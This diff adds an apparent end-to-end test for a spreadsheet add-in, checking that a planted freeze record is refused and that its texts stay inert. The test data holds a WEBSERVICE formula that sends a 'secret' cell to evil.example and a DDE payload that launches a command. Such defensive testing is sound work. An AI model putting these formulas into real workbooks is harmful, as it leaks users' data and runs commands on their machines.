@@ -240,3 +240,70 @@ test("after a release, the pane lists what changed and Write report creates the 
   expect([...sizes].sort((a, b) => b - a)).toEqual(sizes);
   await screenshot(page, "release-report");
 });
+
+test("a freeze record planted in a shared workbook: hostile entries are refused, others restored once confirmed, and its texts stay text", async () => {
+  const preview = await open();
+  const { page, pane } = preview;
+  await signIn(fixture, pane);
+  const [code] = await twoCodes(preview);
+  const formula = `=PCD.VALUE("${code}","2025-02")`;
+  const dde = "=cmd|' /C calc'!A0";
+  const entry = (address: string, cellFormula: string, value: string | number, description: string) => ({
+    address,
+    formula: cellFormula,
+    range: address,
+    values: [[value]],
+    numberFormats: [["General"]],
+    series: [
+      {
+        code,
+        currency: null,
+        unit: null,
+        releaseMonth: "2026-10",
+        latestMonth: "2026-09",
+        retrievedAt: null,
+        description,
+        owner: "PCD",
+      },
+    ],
+    frozenAt: "2026-11-01T00:00:00.000Z",
+  });
+  await page.evaluate(
+    ([planted]) => {
+      window.__pcdPreview.enter("A1", "secret");
+      window.__pcdPreview.enter("H20", "keep");
+      window.__pcdPreview.enter("C3", "12.5");
+      window.__pcdPreview.setSetting("pcd.frozen", planted);
+    },
+    [
+      {
+        version: 1,
+        cells: [
+          entry("Sheet1!H20", '=WEBSERVICE("https://evil.example/c?d="&Sheet1!A1)', "keep", dde),
+          entry("Sheet1!C3", formula, 12.5, "Natural gas"),
+        ],
+      },
+    ],
+  );
+  await pane.getByRole("tab", { name: "Usage" }).click();
+  await pane.getByRole("button", { name: "Restore all" }).click();
+  const outcome = pane.getByTestId("freeze-outcome");
+  await outcome.filter({ hasText: "not frozen on this computer" }).waitFor();
+  expect(await outcome.textContent()).toContain(
+    "Not restored, the workbook's freeze record is not one PCD wrote: Sheet1!H20 (its formula is not a PCD formula)",
+  );
+  const confirm = pane.getByTestId("restore-confirm");
+  expect(await confirm.locator("li").allTextContents()).toEqual([`Sheet1!C3: ${formula}`]);
+  expect(await content(page, "C3")).toBe("12.5");
+  await screenshot(page, "restore-confirm");
+
+  await confirm.getByRole("button", { name: "Restore this formula" }).click();
+  await outcome.filter({ hasText: "Restored 1 formula." }).waitFor();
+  expect(await content(page, "C3")).toBe(formula);
+  expect(await content(page, "H20")).toBe("keep");
+  expect(await content(page, "A1")).toBe("secret");
+  // The refused entry's hostile description is listed on the sources sheet as text.
+  const sources = await page.evaluate(() => window.__pcdPreview.sheet("PCD sources"));
+  expect(sources[1]?.[1]).toBe(dde);
+  expect(await pane.getByTestId("restore-confirm").count()).toBe(0);
+});
